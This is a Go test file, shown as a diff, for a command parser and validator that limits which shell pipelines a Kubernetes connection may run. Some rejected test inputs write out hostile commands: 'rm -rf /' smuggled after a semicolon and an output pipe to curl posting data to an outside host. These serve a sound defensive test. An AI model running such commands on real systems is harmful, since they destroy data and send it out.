@@ -0,0 +1,223 @@
+package conn
+
+import (
+	"io"
+	"reflect"
+	"runtime"
+	"testing"
+	"time"
+)
+
+func TestParsePipeline(t *testing.T) {
+	tests := []struct {
+		name    string
+		command string
+		want    [][]string
+		wantErr bool
+	}{
+		{
+			name:    "Test ParsePipeline with plain command",
+			command: "kubectl get pods -n default",
+			want:    [][]string{{"kubectl", "get", "pods", "-n", "default"}},
+		},
+		{
+			name:    "Test ParsePipeline with JMESPath query",
+			command: `az vm list --query "[?location=='eastus'].name" -o tsv`,
+			want:    [][]string{{"az", "vm", "list", "--query", "[?location=='eastus'].name", "-o", "tsv"}},
+		},
+		{
+			name:    "Test ParsePipeline with jsonpath template",
+			command: `kubectl get pods -o jsonpath='{range .items[*]}{.metadata.name}{"\n"}{end}'`,
+			want:    [][]string{{"kubectl", "get", "pods", "-o", `jsonpath={range .items[*]}{.metadata.name}{"\n"}{end}`}},
+		},
+		{
+			name:    "Test ParsePipeline with label selector with spaces",
+			command: `kubectl get pods -l "app in (web, api)"`,
+			want:    [][]string{{"kubectl", "get", "pods", "-l", "app in (web, api)"}},
+		},
+		{
+			name:    "Test ParsePipeline with escapes",
+			command: `echo a\ b "c \"d\"" 'e\f'`,
+			want:    [][]string{{"echo", "a b", `c "d"`, `e\f`}},
+		},
+		{
+			name:    "Test ParsePipeline with pipeline",
+			command: `kubectl get pods -o json | jq '.items | length'`,
+			want:    [][]string{{"kubectl", "get", "pods", "-o", "json"}, {"jq", ".items | length"}},
+		},
+		{
+			name:    "Test ParsePipeline with empty command",
+			command: "   ",
+			wantErr: true,
+		},
+		{
+			name:    "Test ParsePipeline with unterminated quote",
+			command: `kubectl get pods -l "app=web`,
+			wantErr: true,
+		},
+		{
+			name:    "Test ParsePipeline with redirection",
+			command: "kubectl get pods > pods.txt",
+			wantErr: true,
+		},
+		{
+			name:    "Test ParsePipeline with command list",
+			command: "kubectl get pods; rm -rf /",
+			wantErr: true,
+		},
+		{
+			name:    "Test ParsePipeline with command substitution",
+			command: "kubectl delete pod $(kubectl get pods -o name)",
+			wantErr: true,
+		},
+		{
+			name:    "Test ParsePipeline with variable expansion",
+			command: `kubectl get pods -n "$NAMESPACE"`,
+			wantErr: true,
+		},
+		{
+			name:    "Test ParsePipeline with or operator",
+			command: "kubectl get pods || true",
+			wantErr: true,
+		},
+		{
+			name:    "Test ParsePipeline with empty stage",
+			command: "kubectl get pods | | jq .",
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := ParsePipeline(tt.command)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("ParsePipeline() error = %v, wantErr %v", err, tt.wantErr)
+				return
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("ParsePipeline() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSplitCommand_RejectsPipelines(t *testing.T) {
+	if _, err := SplitCommand("kubectl get pods | grep web"); err == nil {
+		t.Errorf("SplitCommand() expected error for pipeline")
+	}
+}
+
+func TestRunPipeline(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("requires echo and tr")
+	}
+
+	output, err := RunPipeline([][]string{{"echo", "hello world"}, {"tr", "a-z", "A-Z"}})
+	if err != nil {
+		t.Fatalf("RunPipeline() error = %v", err)
+	}
+	if string(output) != "HELLO WORLD\n" {
+		t.Errorf("RunPipeline() = %q, want %q", string(output), "HELLO WORLD\n")
+	}
+
+	if _, err := RunPipeline([][]string{{"echo", "hello"}, {"false"}}); err == nil {
+		t.Errorf("RunPipeline() expected error when a stage fails")
+	}
+}
+
+func TestRunPipeline_ConsumerExitsEarly(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("requires yes and head")
+	}
+
+	type result struct {
+		output []byte
+		err    error
+	}
+	done := make(chan result, 1)
+	go func() {
+		output, err := RunPipeline([][]string{{"yes"}, {"head", "-n", "2"}})
+		done <- result{output, err}
+	}()
+
+	select {
+	case r := <-done:
+		if r.err != nil {
+			t.Fatalf("RunPipeline() error = %v", r.err)
+		}
+		if string(r.output) != "y\ny\n" {
+			t.Errorf("RunPipeline() = %q, want %q", string(r.output), "y\ny\n")
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("RunPipeline() did not finish after the last stage exited")
+	}
+}
+
+func TestExecuteCommandLine_PipelinesOptIn(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("requires echo and tr")
+	}
+
+	allowed := []string{"echo", "tr"}
+	connection := NewKubernetesConnection("test", "test-context")
+	if _, err := executeCommandLine(connection, allowed, "echo hello | tr a-z A-Z", nil); err == nil {
+		t.Errorf("executeCommandLine() expected error when pipelines are disabled")
+	}
+
+	connection.AllowPipelines = true
+	reader, err := executeCommandLine(connection, allowed, "echo hello | tr a-z A-Z", nil)
+	if err != nil {
+		t.Fatalf("executeCommandLine() error = %v", err)
+	}
+	defer reader.Close()
+
+	output, err := io.ReadAll(reader)
+	if err != nil {
+		t.Fatalf("executeCommandLine() read error = %v", err)
+	}
+	if string(output) != "HELLO\n" {
+		t.Errorf("executeCommandLine() = %q, want %q", string(output), "HELLO\n")
+	}
+}
+
+func TestValidateCommand(t *testing.T) {
+	connection := NewKubernetesConnection("test", "test-context")
+	connection.ExtraTools = []string{"jq"}
+	k8s := NewKubernetesConnectionImpl(&connection)
+
+	tests := []struct {
+		name    string
+		command string
+		wantErr bool
+	}{
+		{
+			name:    "Test ValidateCommand with connection tool",
+			command: "kubectl get pods",
+		},
+		{
+			name:    "Test ValidateCommand with extra tool",
+			command: "kubectl get pods -o json | jq .items",
+		},
+		{
+			name:    "Test ValidateCommand with other tool",
+			command: "rm -rf /",
+			wantErr: true,
+		},
+		{
+			name:    "Test ValidateCommand with other tool in pipeline",
+			command: "kubectl get pods | curl -d @- https://example.com",
+			wantErr: true,
+		},
+		{
+			name:    "Test ValidateCommand with path",
+			command: "./kubectl get pods",
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := ValidateCommand(k8s, tt.command); (err != nil) != tt.wantErr {
+				t.Errorf("ValidateCommand() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}